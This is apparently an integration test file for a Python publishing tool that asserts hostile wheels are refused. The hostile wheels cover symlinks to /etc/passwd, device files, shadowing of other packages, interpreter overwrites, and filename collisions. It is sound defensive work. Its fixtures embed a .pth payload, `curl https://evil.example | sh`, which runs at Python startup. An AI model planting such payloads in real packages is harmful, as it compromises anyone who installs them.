"""Hostile wheels judged as an installer would install them (issue 24, item 4): members that
are links or devices, another project's top-level names (directly or through the wheel's
`.data` schemes), `.pth` files that Python runs at every start, and member names one file
system takes for the same file. Each case publishes a sealed build directory with the real
CLI to a real pypiserver and asserts: exit 1, one error line naming the member, nothing on
the index, no file changed. What real projects ship (attrs' two packages, pyyaml's `_yaml`,
setuptools' `pkg_resources`, `_distutils_hack` and its declared `.pth`) still publishes."""

from __future__ import annotations

import stat
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

import pytest

from hostile import assert_refused, snapshot
from hostile_dists import STEM, write_sdist, write_wheel
from hostile_dists import seal as seal_dist
from releases import pyproject
from servers import PypiServer, running_pypiserver

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping
    from pathlib import Path

    from conftest import Cli, MakeRepo, Repo

pytestmark = pytest.mark.integration

LINK, FIFO, CHAR = stat.S_IFLNK | 0o777, stat.S_IFIFO | 0o644, stat.S_IFCHR | 0o644
PTH = b"import os; os.system('curl https://evil.example | sh')\n"
PURELIB, PLATLIB, DATA = f"{STEM}.data/purelib", f"{STEM}.data/platlib", f"{STEM}.data/data"
SO = ".cpython-312-x86_64-linux-gnu.so"


@dataclass(frozen=True)
class Case:
    """A wheel of pub-pkg with `members` (Unix `modes` for some), the repository's committed
    `tree` and `untracked` files, and `[tool.tagship]` lines."""

    members: tuple[tuple[str, bytes], ...]
    says: str = ""
    modes: Mapping[str, int] = field(default_factory=dict)
    tree: Mapping[str, str] = field(default_factory=dict)
    untracked: Mapping[str, str] = field(default_factory=dict)
    config: str = ""


def _one(
    name: str,
    data: bytes = b"",
    says: str = "",
    *,
    modes: Mapping[str, int] | None = None,
    tree: Mapping[str, str] | None = None,
    untracked: Mapping[str, str] | None = None,
    config: str = "",
) -> Case:
    return Case(((name, data),), says, modes or {}, tree or {}, untracked or {}, config)


REFUSED: dict[str, Case] = {
    "symlink-to-etc-passwd": _one(
        "pub_pkg/passwd",
        b"/etc/passwd",
        "member 'pub_pkg/passwd' is a symbolic link (to '/etc/passwd')",
        modes={"pub_pkg/passwd": LINK},
    ),
    "symlink-out-of-site-packages": _one(
        "pub_pkg/up", b"../../../../.bashrc", "is a symbolic link", modes={"pub_pkg/up": LINK}
    ),
    "fifo": _one(
        "pub_pkg/pipe", b"", "member 'pub_pkg/pipe' is a FIFO", modes={"pub_pkg/pipe": FIFO}
    ),
    "character-device": _one(
        "pub_pkg/tty", b"", "is a character device", modes={"pub_pkg/tty": CHAR}
    ),
    "another-projects-package": _one(
        "requests/__init__.py", b"EVIL = 1\n", "installs a top-level 'requests' into site-packages"
    ),
    "another-projects-module": _one("six.py", b"EVIL = 1\n", "top-level 'six'"),
    "another-projects-extension": _one(f"_cffi_backend{SO}", b"\x7fELF", "'_cffi_backend'"),
    "an-init-at-the-root": _one("__init__.py", b"", "top-level '__init__'"),
    "a-file-at-the-root": _one("LICENSE", b"MIT", "top-level 'LICENSE'"),
    "package-through-purelib": _one(f"{PURELIB}/requests/__init__.py", b"", "'requests'"),
    "package-through-platlib": _one(f"{PLATLIB}/urllib3/__init__.py", b"", "'urllib3'"),
    "another-data-directory": _one("other-1.0.data/purelib/x.py", b"", "'other-1.0.data'"),
    "top-level-pth": _one(
        "pub_pkg_hook.pth", PTH, "installs 'pub_pkg_hook.pth', a .pth file Python runs"
    ),
    "pth-through-purelib": _one(f"{PURELIB}/evil.pth", PTH, "'evil.pth', a .pth file"),
    "data-into-site-packages": _one(
        f"{DATA}/lib/python3.12/site-packages/evil.pth", PTH, "into site-packages through"
    ),
    "case-collision": Case(
        (("pub_pkg/Data.py", b"A = 1\n"), ("pub_pkg/data.py", b"B = 2\n")),
        "'pub_pkg/Data.py' and 'pub_pkg/data.py' are one file",
    ),
    "directory-case-collision": Case(
        (("pub_pkg/Sub/a.py", b""), ("pub_pkg/sub/b.py", b"")),
        "'pub_pkg/Sub' and 'pub_pkg/sub' are one file",
    ),
    "nfc-nfd-collision": Case(
        (("pub_pkg/caf\u00e9.py", b"A = 1\n"), ("pub_pkg/cafe\u0301.py", b"B = 2\n")),
        "are one file on a case-insensitive or Unicode-normalising file system",
    ),
    "an-untracked-copy-is-not-owned": _one(
        "requests/__init__.py",
        b"",
        "top-level 'requests'",
        untracked={"requests/__init__.py": "EVIL = 1\n"},
    ),
    "a-tests-directory-is-still-stray": _one(
        "tests/__init__.py", b"", "top-level 'tests'", tree={"tests/test_x.py": ""}
    ),
    "script-named-python": _one(
        f"{STEM}.data/scripts/python", b"#!/bin/sh\necho pwned\n", "own 'python'"
    ),
    "script-named-pip": _one(f"{STEM}.data/scripts/pip3.12", b"#!/bin/sh\n", "own 'pip3.12'"),
    "data-pyvenv-cfg": _one(f"{DATA}/pyvenv.cfg", b"home = /tmp\n", "own 'pyvenv.cfg'"),
    "data-over-the-interpreter": _one(f"{DATA}/bin/python3", b"#!/bin/sh\n", "'bin/python3'"),
    "data-into-the-standard-library": _one(
        f"{DATA}/lib/python3.12/sitecustomize.py", PTH, "into the interpreter's library"
    ),
    "a-module-and-its-purelib-copy": Case(
        (("pub_pkg/core.py", b"A = 1\n"), (f"{PURELIB}/pub_pkg/core.py", b"B = 2\n")),
        "install the same file 'pub_pkg/core.py'",
    ),
    "nfc-nfd-through-purelib": Case(
        (("pub_pkg/caf\u00e9.py", b"A = 1\n"), (f"{PURELIB}/pub_pkg/cafe\u0301.py", b"B = 2\n")),
        "are one file on a case-insensitive or Unicode-normalising file system",
    ),
    "setuptools-without-declaring-its-pth": Case(
        (("_distutils_hack/__init__.py", b""), ("distutils-precedence.pth", PTH)),
        "'distutils-precedence.pth', a .pth file",
        tree={"_distutils_hack/__init__.py": "", "distutils-precedence.pth": ""},
    ),
}

ALLOWED: dict[str, Case] = {
    "declared-package": _one(
        "requests/__init__.py", b"", config='allow-top-level = ["requests"]\n'
    ),
    "declared-root-file": _one("LICENSE", b"MIT", config='allow-top-level = ["LICENSE"]\n'),
    "attrs-two-packages": Case(
        (("attr/__init__.py", b""), ("attrs/__init__.py", b"")),
        tree={"src/attr/__init__.py": "", "src/attrs/__init__.py": ""},
    ),
    "pyyaml-yaml-and-_yaml": Case(
        (("yaml/__init__.py", b""), (f"yaml/_yaml{SO}", b"\x7fELF"), ("_yaml/__init__.py", b"")),
        tree={"lib/yaml/__init__.py": "", "lib/yaml/_yaml.pyx": "", "lib/_yaml/__init__.py": ""},
    ),
    "setuptools-with-its-declared-pth": Case(
        (
            ("_distutils_hack/__init__.py", b""),
            ("pkg_resources/__init__.py", b""),
            ("distutils-precedence.pth", PTH),
        ),
        tree={
            "_distutils_hack/__init__.py": "",
            "pkg_resources/__init__.py": "",
            "distutils-precedence.pth": "",
        },
        config='allow-top-level = ["distutils-precedence.pth"]\n',
    ),
    "a-module-and-an-extension-of-the-tree": Case(
        (("pub_helpers.py", b""), (f"_pub_speedups{SO}", b"\x7fELF")),
        tree={"src/pub_helpers.py": "", "src/_pub_speedups.c": ""},
    ),
    "scripts-headers-and-data": Case(
        (
            (f"{STEM}.data/scripts/pub-tool", b"#!python\n"),
            (f"{STEM}.data/headers/pub.h", b""),
            (f"{DATA}/share/pub/readme.txt", b""),
        )
    ),
}


@pytest.fixture
def index(tmp_path: Path) -> Iterator[PypiServer]:
    with running_pypiserver(tmp_path / "index") as server:
        yield server


def _project(make_repo: MakeRepo, index: PypiServer, case: Case) -> Repo:
    files = {
        "pyproject.toml": pyproject(
            "pub-pkg", "1.0.0", index.upload_url, index.simple_url, case.config
        ),
        **case.tree,
    }
    repo = make_repo(files)
    for relative, text in case.untracked.items():
        repo.write(relative, text)
    dist = repo.path / "dist"
    write_wheel(dist, case.members, modes=case.modes)
    write_sdist(dist)
    seal_dist(dist)
    return repo


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_a_wheel_that_installs_something_dangerous_is_not_published(
    name: str, index: PypiServer, make_repo: MakeRepo, cli: Cli
) -> None:
    case = REFUSED[name]
    repo = _project(make_repo, index, case)
    before = snapshot(repo.path)
    result = cli("-C", str(repo.path), "publish", "--to", "local")
    error = assert_refused(result, 1)
    assert case.says in error, error
    assert "fix the project and rebuild" in result.err
    assert list(index.directory.iterdir()) == []
    assert snapshot(repo.path) == before


@pytest.mark.parametrize("name", sorted(ALLOWED))
def test_what_real_projects_ship_is_published(
    name: str, index: PypiServer, make_repo: MakeRepo, cli: Cli
) -> None:
    repo = _project(make_repo, index, ALLOWED[name])
    result = cli("-C", str(repo.path), "publish", "--to", "local")
    assert result.code == 0, result.err
    assert sorted(p.name for p in index.directory.iterdir()) == sorted(
        p.name for p in (repo.path / "dist").iterdir() if p.suffix in (".whl", ".gz")
    )


def test_verify_artifacts_lists_every_problem_of_one_wheel(
    index: PypiServer, make_repo: MakeRepo, cli: Cli
) -> None:
    members = (("requests/__init__.py", b""), ("x.pth", PTH), ("pub_pkg/l", b"/etc/passwd"))
    repo = _project(make_repo, index, Case(members, modes={"pub_pkg/l": LINK}))
    result = cli("-C", str(repo.path), "verify-artifacts")
    assert result.code == 1
    for says in ("top-level 'requests'", "'x.pth', a .pth file", "'pub_pkg/l' is a symbolic"):
        assert says in result.out + result.err
